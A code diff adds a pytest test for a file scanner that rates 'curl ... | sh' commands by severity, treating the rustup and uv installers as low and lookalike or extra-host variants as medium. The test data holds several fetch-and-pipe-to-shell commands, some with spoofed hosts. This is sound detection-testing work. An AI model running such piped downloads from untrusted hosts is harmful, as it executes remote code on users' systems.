@@ -86,3 +86,19 @@ def test_a_script_that_tells_how_to_install_something_does_not_install_it(tree):
     found = {f.path for f in FilesAnalyzer().analyze(folder) if f.rule == "files.shell-download"}
 
     assert found == {"done.sh"}
+
+
+@pytest.mark.parametrize(
+    ("command", "severity"),
+    [
+        ("curl https://sh.rustup.rs -sSf | sh -s -- -y", Severity.LOW),
+        ("curl -LsSf https://astral.sh/uv/install.sh | sh", Severity.LOW),
+        ("curl https://sh.rustup.rs https://x.invalid/a | sh", Severity.MEDIUM),
+        ("curl https://sh.rustup.rs.x.invalid/ | sh", Severity.MEDIUM),
+        ("curl https://x.invalid/sh.rustup.rs | sh", Severity.MEDIUM),
+    ],
+)
+def test_the_installer_of_a_language_is_known(tree, command, severity):
+    (finding,) = FilesAnalyzer().analyze(tree({"ci/setup.sh": f"{command}\n"}))
+
+    assert (finding.rule, finding.severity) == ("files.shell-download", severity)
